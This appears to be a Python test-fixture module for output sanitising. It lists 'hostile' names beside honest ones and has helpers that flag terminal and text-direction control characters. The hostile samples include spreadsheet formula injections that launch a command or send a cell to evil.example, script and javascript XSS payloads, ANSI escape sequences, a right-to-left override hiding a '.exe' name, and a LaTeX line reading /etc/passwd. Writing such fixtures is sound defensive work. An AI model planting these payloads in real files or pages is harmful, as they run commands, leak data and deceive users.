"""Names that a stranger would choose, and names that people have."""

from __future__ import annotations

import unicodedata

HOSTILE = (
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "\x9b2Jgone\x7f\x08\x08",
    "line\rerror: all is well",
    "\u202egnp.exe\u2066\u200f\u061c",
    '=HYPERLINK("http://evil.example/?"&A1,"see")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    '<a href="javascript:alert(1)">class</a>',
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "[link=http://evil.example]rich[/link]",
    "[bold red]rich[/]",
    "[see](http://evil.example) ![x](http://evil.example/x.png)",
    "https://evil.example www.evil.example <https://evil.example>",
    "`code` **bold** _slanted_ | column",
    r"\input{/etc/passwd} \\ & % $x$ # _ { } ~ ^",
    "[1ex] *row",
    "$\\frac{1$",
    ":bomb:",
    "&lt;b&gt; &amp;",
)
HONEST = (
    "fedavg",
    "FedAvg+feddecorr 0.1",
    "AT&T",
    "1.0 ± 0.1",
    "Zürich",
    "日本語",
    "weights_only",
    "-0.25",
    "1e-05",
    "",
)
HARMLESS_CELLS = ("-0.25", "+1.5", "-1e-05", "-inf", "+1.23 [-0.10, +2.00], 3 of 3", "-", "–", "0.5 ± 0.1")

DIRECTIONS = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
MARKS = {"ARABIC LETTER MARK", "LEFT-TO-RIGHT MARK", "RIGHT-TO-LEFT MARK"}


def acts(letter: str) -> bool:
    """Return whether a letter is a control of a terminal, a line or the direction of writing, by Unicode's tables."""
    return letter not in "\t\n" and (
        unicodedata.category(letter) in {"Cc", "Cs", "Zl", "Zp"}
        or unicodedata.bidirectional(letter) in DIRECTIONS
        or unicodedata.name(letter, "") in MARKS
    )


def acting(text: str) -> set[str]:
    """Return the letters of a text that act."""
    return set(filter(acts, set(text)))
